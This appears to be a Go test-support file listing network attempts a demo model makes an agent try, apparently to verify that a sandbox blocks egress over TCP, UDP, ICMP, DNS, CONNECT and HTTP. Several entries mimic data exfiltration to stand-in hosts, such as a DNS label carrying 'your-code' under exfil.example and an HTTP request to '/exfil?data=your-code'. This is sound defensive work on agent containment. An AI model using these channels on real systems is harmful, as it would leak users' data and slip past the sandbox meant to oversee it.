package verify

// DemoAttempts are what the demo model makes the agent try. They aim only at the
// documentation networks (RFC 5737, 3849), at names under .example (RFC 2606), at
// the sandbox's own proxy and DNS server, and at hostListener, an address:port of
// the host on which the launcher listens and counts; empty: left out.
func DemoAttempts(hostListener string) []Attempt {
	list := []Attempt{
		{Kind: "tcp", Target: "203.0.113.10:22"},
		{Kind: "tcp", Target: "203.0.113.10:80"},
		{Kind: "tcp", Target: "203.0.113.10:443"},
		{Kind: "tcp", Target: "203.0.113.10:8443"},
		{Kind: "tcp", Target: "[2001:db8::10]:443"},
		{Kind: "udp", Target: "203.0.113.10:123"},
		{Kind: "udp", Target: "203.0.113.10:443"},
		{Kind: "udp", Target: "203.0.113.10:4433"},
		{Kind: "udp", Target: "[2001:db8::10]:443"},
		{Kind: "icmp", Target: "203.0.113.10"},
		{Kind: "icmpv6", Target: "2001:db8::10"},
		{Kind: "raw", Target: "203.0.113.10"},
		{Kind: "dns", Target: "your-code-in-a-label.exfil.example"},
		{Kind: "dns", Target: "exfil.example", Record: "AAAA"},
		{Kind: "dns", Target: "exfil.example", Record: "TXT", Via: "203.0.113.53:53"},
		{Kind: "dns", Target: "exfil.example", Via: "203.0.113.53:53", TCP: true},
		{Kind: "dns", Target: "exfil.example", Via: "[2001:db8::53]:53"},
		{Kind: "connect", Target: "exfil.example:443"},
		{Kind: "connect", Target: "203.0.113.10:443"},
		{Kind: "connect", Target: "[2001:db8::10]:443"},
		{Kind: "http", Target: "http://203.0.113.10/exfil?data=your-code"},
	}
	if hostListener != "" {
		list = append(list, Attempt{Kind: "tcp", Target: hostListener}, Attempt{Kind: "connect", Target: hostListener})
	}
	return list
}
